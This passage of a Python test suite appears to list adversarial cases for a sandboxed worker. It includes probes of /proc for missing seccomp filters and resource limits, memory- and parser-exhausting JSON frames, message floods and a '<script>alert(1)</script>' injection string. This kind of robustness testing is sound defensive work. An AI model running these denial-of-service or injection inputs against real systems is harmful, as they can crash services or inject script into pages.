    "processes without a filter or limits": _beside(
        """
        import glob, resource
        for path in glob.glob("/proc/[0-9]*/status"):
            if "Seccomp:\\t2" not in open(path).read(): raise RuntimeError(f"«SECRET» {path}")
            for kind in (resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE):
                limits = resource.prlimit(int(path.split("/")[2]), kind)
                if limits != resource.getrlimit(kind): raise RuntimeError(f"«SECRET» {path} {kind}")
        """
    ),
    "whatever is open": _attack(
        """
        import os
        for one in os.listdir("/proc/self/fd"):
            try: found = os.readlink(f"/proc/self/fd/{one}")
            except OSError: continue
            if not found.startswith(("/dev/null", "socket:", "/proc/")):
                raise RuntimeError(f"«SECRET» {found}")
        """,
        DISHONEST,
    ),
}

WIRE = {
    "garbage": _sent("say(os.urandom(100_000))"),
    "a huge length": _sent("say(b'\\xff' * 100)"),
    "half a frame, then sleep": _sent("say(frame(b'{', 100))", "import time; time.sleep(600)"),
    "half a frame, then nothing": _sent("say(frame(b'{', 100)); os._exit(0)"),
    "a channel that is closed": _sent(
        "import time, socket",
        "for one in range(3, 20):",
        "    try: socket.socket(fileno=one).shutdown(2)",
        "    except OSError: pass",
        "time.sleep(600)",
    ),
    "JSON that is deep": _sent("say(frame(b'[' * 10_000 + b']' * 10_000))"),
    "JSON that is wide": _sent("say(frame(b'[' + b'[],' * 5_000_000 + b'[]]'))"),
    "JSON with numbers that never end": _sent("say(frame(b'[' + b'9' * 900_000 + b']'))"),
    "JSON that is no dictionary": _sent("say(frame([1])); say(frame(None)); say(frame('end'))"),
    "a shape larger than all memory": _sent('say(frame({"array": ["<f8", [2**20, 2**20]]}))'),
    "a shape that is none": _sent(
        'say(frame({"array": ["<f8", [0, 2**62]]}) + frame({"array": ["<f8", [-1]]}))'
    ),
    "sizes that overflow": _sent(
        'say(frame({"array": ["<f8", [0, 2**31 - 1, 2**31 - 1, 2**31 - 1]]}))',
    ),
    "an array as a place": _sent(
        'array = {"array": ["<f8", [2]]}',
        'say(frame({"at": array, "which": array}) + bytes(32))',
    ),
    "an array of objects": _sent('say(frame({"array": ["|O", [1]]}) + bytes(8))'),
    "a row that is turned": _sent(
        'say(frame({"array": ["<f8", [1]], "tensor": True, "strided": True}) + bytes(8))'
    ),
    "texts that grow": _sent(
        'one = {"texts": ["x" * 2000] + [""] * 2000}',
        "say(frame([one] * 1000))",
    ),
    "a trouble called passed": _sent(
        'passed = [{"trouble": ["passed", "All right.", ""]}] * 2',
        'say(frame({"task": "entropy", "parts": passed}))',
    ),
    "answers that are lists of nothing": _sent(
        'one = {"outputs": {"entropies": [None, None]}, "gradients": []}',
        'parts = [{"answers": [one] * 8, "printed": 0}] * 2',
        'say(frame({"task": "entropy", "parts": parts}))',
    ),
    "answers that are words": _sent(
        'one = {"outputs": {"entropies": {"texts": ["a", "b"]}}, "gradients": []}',
        'parts = [{"answers": [one] * 8, "printed": 0}] * 2',
        'say(frame({"task": "entropy", "parts": parts}))',
    ),
    "infinitely many lines": _sent(
        'for printed in ("Infinity", "NaN", "9" * 4000, "[]", "-1"):',
        '    part = b\'{"answers": [], "printed": \' + printed.encode() + b"}"',
        '    for task in (b"entropy", b"read_alignment", b"four_patterns"):',
        '        say(frame(b\'{"task": "\' + task + b\'", "parts": [\' + part + b"]}"))',
    ),
    "parts that are none": _sent(
        'for parts in (None, 1, "passed", [], [[]], {"0": 1}, [{"trouble": 1}], [{}, {}], [1, 2]):',
        '    for task in ("entropy", "read_alignment", "normalised_heatmap"):',
        '        say(frame({"task": task, "parts": parts}))',
    ),
    "places that are none": _sent(
        'for which in ([], {}, None, 10**30, 1.5, True, "entropy", {"texts": ["a"]}):',
        '    for at in ("cell", "task", [], {}, None):',
        '        say(frame({"at": at, "which": which}))',
        '    say(frame({"cell": which, "error": [1]}) + frame({"task": which, "parts": []}))',
        'say(frame({"at": "task", "which": {"array": ["<f8", [2]]}}) + bytes(16))',
        'say(frame({"task": {"array": ["<f8", [2]]}}) + bytes(16))',
        'say(frame({"cell": {"array": ["<f8", [2]]}}) + bytes(16))',
    ),
    "an end at a task that is answered": _sent(
        'say(frame({"at": "task", "which": "entropy"}))',
        'say(frame({"task": "entropy", "parts": [{"trouble": ["error", "", ""]}]}))',
        "os._exit(0)",
    ),
    "answers for tasks that nobody asked": _sent(
        'say(frame({"task": "additive_scores", "parts": [{"trouble": ["error", "", ""]}]}) * 100)'
    ),
    "an end too early": _sent('say(frame({"end": True}))'),
    "letters that cannot be written": _sent(
        'say(frame({"cell": 1, "error": "\\ud800\\x00<script>"}))',
        'trouble = {"trouble": ["error", "\\udfff<script>alert(1)</script>", "\\x1b"]}',
        'say(frame({"task": "entropy", "parts": [trouble]}))',
    ),
    "a million short messages": _sent("say(frame({}) * 1_000_000)"),
    "short messages without end": _sent("while True: say(frame({}) * 1000)"),
    "frames by chance": _sent(
        "import random",
        "draw = random.Random(7)",
        "words = 'at which cell task parts trouble answers printed end outputs gradients'",
        "words = [*words.split(), 'entropies', 'entropy', 'array', 'texts', 'tensor', '<f8']",
        "def value(depth):",
        "    kind = draw.randrange(9 if depth else 5)",
        "    if kind < 5: return draw.choice([None, True, 2, -1, 0.5, 10**20, draw.choice(words)])",
        "    if kind < 7: return [value(depth - 1) for _ in range(draw.randrange(4))]",
        "    return {draw.choice(words): value(depth - 1) for _ in range(draw.randrange(4))}",
        "for _ in range(2000): say(frame(value(4)))",
    ),
}

ATTACKS: dict[str, Attack] = {
    **TIME,
    **EXITS,
    **SIGNALS,
    **MEMORY,
    **PROCESSES,
    **FLOODS,
    **PATCHES,
    **HIDDEN,
    **LIES,
    **STATE,
    **DIGGING,
    **WIRE,
}
